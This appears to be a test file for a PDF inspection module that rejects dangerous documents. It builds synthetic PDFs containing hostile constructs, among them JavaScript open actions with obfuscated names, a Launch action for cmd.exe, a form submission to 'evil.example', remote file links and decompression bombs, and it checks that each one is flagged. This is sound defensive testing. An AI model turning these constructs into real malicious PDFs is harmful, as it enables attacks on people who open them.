import { deflateSync } from 'node:zlib';
import {
  flateText,
  newPdf,
  streamText,
  type Objects,
  type SaveWish,
} from '../../../../test/support/test-authority/pdf-writer.js';
import { preparedLetter } from '../../../../test/support/test-authority/letter.js';
import { zipOf } from '../../../../test/support/zip-writer.js';
import { inspectFile } from './inspect-file.js';

const codes = async (content: Buffer, name = 'a.pdf'): Promise<readonly string[]> =>
  (await inspectFile({ name, content })).reasons.map(({ code }) => code);

/** A PDF of one page whose catalog says this as well. */
function pdfWith(catalog: string, objects: Objects = {}, wish: SaveWish = {}): Buffer {
  return newPdf(
    {
      1: `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
      2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      3: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
      12: '<< /Producer (Thu) >>',
      ...objects,
    },
    wish,
  );
}

describe('a PDF', () => {
  it.each<[string, Buffer]>([
    ['as it is put before a signer', preparedLetter()],
    ['with objects in an object stream', pdfWith('', {}, { asStream: true, packed: [3, 12] })],
    ['that opens at a place of its own', pdfWith('/OpenAction [3 0 R /XYZ null null 0]')],
    ['with links to the web', pdfWith('', { 20: '<< /S /URI /URI (https://haiphong.gov.vn/a:b) >>' })],
    [
      'with a large picture that is packed',
      pdfWith('', { 20: flateText(Buffer.alloc(33_000_000), '/Subtype /Image /Width 6000 /Height 5000') }),
    ],
    ['whose words speak of scripts', pdfWith('', { 20: streamText('(/JS /JavaScript 5 0 objx) Tj') })],
  ])('%s is taken', async (_what, content) => {
    expect(await codes(content)).toEqual([]);
  });

  it.each<[string, string, Buffer]>([
    ['a script on opening', 'pdf-script', pdfWith('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
    [
      'a script by reference',
      'pdf-script',
      pdfWith('/OpenAction 20 0 R', { 20: '<< /S /JavaScript /JS 21 0 R >>', 21: streamText('x') }),
    ],
    [
      'a script among its names',
      'pdf-script',
      pdfWith('/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (x) >>] >> >>'),
    ],
    ['a script by a name in numbers', 'pdf-script', pdfWith('/OpenAction << /S /J#61vaScript /J#53 (x) >>')],
    [
      'a script in an object stream',
      'pdf-script',
      pdfWith('/OpenAction 20 0 R', { 20: '<< /S /JavaScript /JS (x) >>' }, { asStream: true, packed: [20] }),
    ],
    [
      'a script that no table names',
      'pdf-script',
      pdfWith('', {}, { hidden: '30 0 obj\n<< /S /JavaScript /JS (x) >>\nendobj\n' }),
    ],
    [
      'a script inside of a stream',
      'pdf-script',
      pdfWith('', { 20: streamText('30 0 obj << /S /JavaScript /JS (x) >> endobj') }),
    ],
    [
      'a script behind a comment',
      'pdf-script',
      pdfWith('', {}, { hidden: '30 % a\n0 %b\nobj << /JS (x) >> endobj\n' }),
    ],
    [
      'a script that cannot be parsed',
      'pdf-script',
      pdfWith('', {}, { hidden: '30 0 obj\n<< /S /Java#53cript /S /X /J#53 (x) >>\nendobj\n' }),
    ],
    ['a program to start', 'pdf-launch', pdfWith('/OpenAction << /S /Launch /F (cmd.exe) >>')],
    [
      'a file in it',
      'pdf-attachment',
      pdfWith('/Names << /EmbeddedFiles << /Names [(a) << /EF << /F 20 0 R >> >>] >> >>', {
        20: streamText('x', '/Type /EmbeddedFile'),
      }),
    ],
    ['files as a portfolio', 'pdf-attachment', pdfWith('/Collection << >>')],
    ['a form that is sent', 'pdf-submit', pdfWith('', { 20: '<< /S /SubmitForm /F (http://evil.example) >>' })],
    ['another file to go to', 'pdf-remote', pdfWith('', { 20: '<< /S /GoToR /F (\\\\\\\\server\\\\a.pdf) >>' })],
    ['a link to a file', 'pdf-remote', pdfWith('', { 20: '<< /S /URI /URI (file:///c:/a) >>' })],
    [
      'a stream that is kept elsewhere',
      'pdf-remote',
      pdfWith('', { 20: '<< /Length 0 /F (http://a) >>\nstream\n\nendstream' }),
    ],
    ['a film', 'pdf-media', pdfWith('', { 20: '<< /Subtype /RichMedia >>' })],
    ['a dynamic form', 'pdf-xfa', pdfWith('/AcroForm << /XFA 20 0 R >>', { 20: streamText('<xdp/>') })],
    ['a lock', 'pdf-encrypted', pdfWith('', { 20: '<< /Filter /Standard >>' }, { trailer: '/Encrypt 20 0 R' })],
    [
      '2,001 pages',
      'pdf-too-many-pages',
      pdfWith('', Object.fromEntries(Array.from({ length: 2001 }, (_, i) => [i + 20, '<< /Type /Page >>']))),
    ],
    ['a bomb', 'pdf-too-large-inside', pdfWith('', { 20: flateText(Buffer.alloc(40_000_000)) })],
    [
      'a bomb in a bomb',
      'pdf-too-large-inside',
      pdfWith('', {
        20: streamText(
          deflateSync(deflateSync(Buffer.alloc(100))).toString('latin1'),
          '/Filter [/FlateDecode /FlateDecode]',
        ),
      }),
    ],
    [
      'an object stream nobody can open',
      'pdf-too-large-inside',
      pdfWith('', { 20: streamText('x', '/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode') }),
    ],
    [
      'a picture of 100 megapixels',
      'image-too-large',
      pdfWith('', { 20: streamText('x', '/Subtype /Image /Width 10000 /Height 10000') }),
    ],
    ['something before its header', 'pdf-header', Buffer.concat([Buffer.from('\n\n'), preparedLetter()])],
    ['its end cut off', 'pdf-cut', preparedLetter().subarray(0, -10)],
    ['an archive behind it', 'two-types', Buffer.concat([preparedLetter(), zipOf([{ name: 'a.txt', content: 'x' }])])],
  ])('with %s is not: %s', async (_what, code, content) => {
    expect(await codes(content)).toContain(code);
    expect((await inspectFile({ name: 'a.pdf', content })).accept).toBe(false);
  });

  it.each<[string, string, Buffer]>([
    ['prints when opened', 'pdf-opens-something', pdfWith('/OpenAction << /S /Named /N /Print >>')],
    ['has tables that are wrong', 'pdf-irregular', pdfWith('', {}, { offsets: { 1: 3 } })],
  ])('that %s is warned of: %s', async (_what, code, content) => {
    expect(await inspectFile({ name: 'a.pdf', content })).toMatchObject({ verdict: 'warn', reasons: [{ code }] });
  });
});
